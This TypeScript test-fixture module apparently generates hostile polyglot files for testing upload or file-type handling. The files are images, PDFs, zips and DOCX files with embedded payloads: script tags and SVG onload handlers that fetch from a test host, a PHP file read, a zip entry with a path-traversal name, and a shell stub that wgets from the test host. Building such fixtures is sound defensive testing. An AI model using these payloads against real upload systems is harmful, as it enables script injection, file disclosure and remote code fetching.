/** Polyglots: files that are valid in two formats, where one is checked and the other executed. */
import sharp from 'sharp'
import { paragraph, writeDocx } from '../support/write-docx.ts'
import { rawZip } from './archives.ts'
import { type HostileFile, hostile, type Targets } from './hostile-file.ts'
import { writePdf } from './pdfs.ts'

export async function polyglots({ http, text, video }: Targets): Promise<HostileFile[]> {
  const flat = sharp({ create: { width: 40, height: 30, channels: 3, background: '#208040' } })
  const [jpeg, png, gif, webp] = await Promise.all([
    flat.clone().jpeg().toBuffer(),
    flat.clone().png().toBuffer(),
    flat.clone().gif().toBuffer(),
    flat.clone().webp().toBuffer(),
  ])
  const script = `<script>fetch("${http}/polyglot")</script>`
  const zip = rawZip([
    { name: 'META-INF/MANIFEST.MF', plain: Buffer.from('Main-Class: X\n') },
    { name: '../x.class', plain: Buffer.from('cafebabe', 'hex') },
  ])
  const pdf = writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>',
  ])
  const docx = writeDocx({ body: paragraph('Visible words') })
  const comment = Buffer.from(script)
  const commented = Buffer.alloc(4)
  commented.writeUInt16BE(0xfffe, 0)
  commented.writeUInt16BE(comment.length + 2, 2)
  const both = (what: string, fileName: string, ...parts: (Buffer | string)[]) =>
    hostile('polyglot', what, fileName, Buffer.concat(parts.map(part => Buffer.from(part))))
  const list = `\n#EXTM3U\n#EXTINF:1,\nfile://${video}\n#EXTINF:1,\n${http}/p.ts\n#EXT-X-ENDLIST\n`
  return [
    both('gif and a script', 'photo.gif', gif, `*/=1;fetch("${http}/gifjs");/*`),
    both('jpg and html', 'photo.jpg', jpeg.subarray(0, 2), commented, comment, jpeg.subarray(2), script),
    both('png and php', 'photo.php', png, `<?php readfile("${text}"); ?>`),
    both('jpg and jar', 'photo.jar', jpeg, zip),
    both('png and a playlist', 'photo.png', png, list),
    both('webp and html', 'photo.html', webp, script),
    both('pdf and a zip', 'paper.zip', pdf, zip),
    both('pdf and html', 'paper.html', pdf, script),
    both('zip before a pdf', 'paper.pdf', zip, pdf),
    both('docx and pdf', 'letter.pdf', docx, pdf),
    both('html before jpg', 'photo.jpg', '<html><body>', script, jpeg),
    both('shell script before zip', 'setup.zip', `#!/bin/sh\nwget ${http}/sh\n`, zip),
    both(
      'svg with scripts',
      'photo.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="fetch('${http}/on')"><script>fetch("${http}/js")</script></svg>`,
    ),
  ]
}
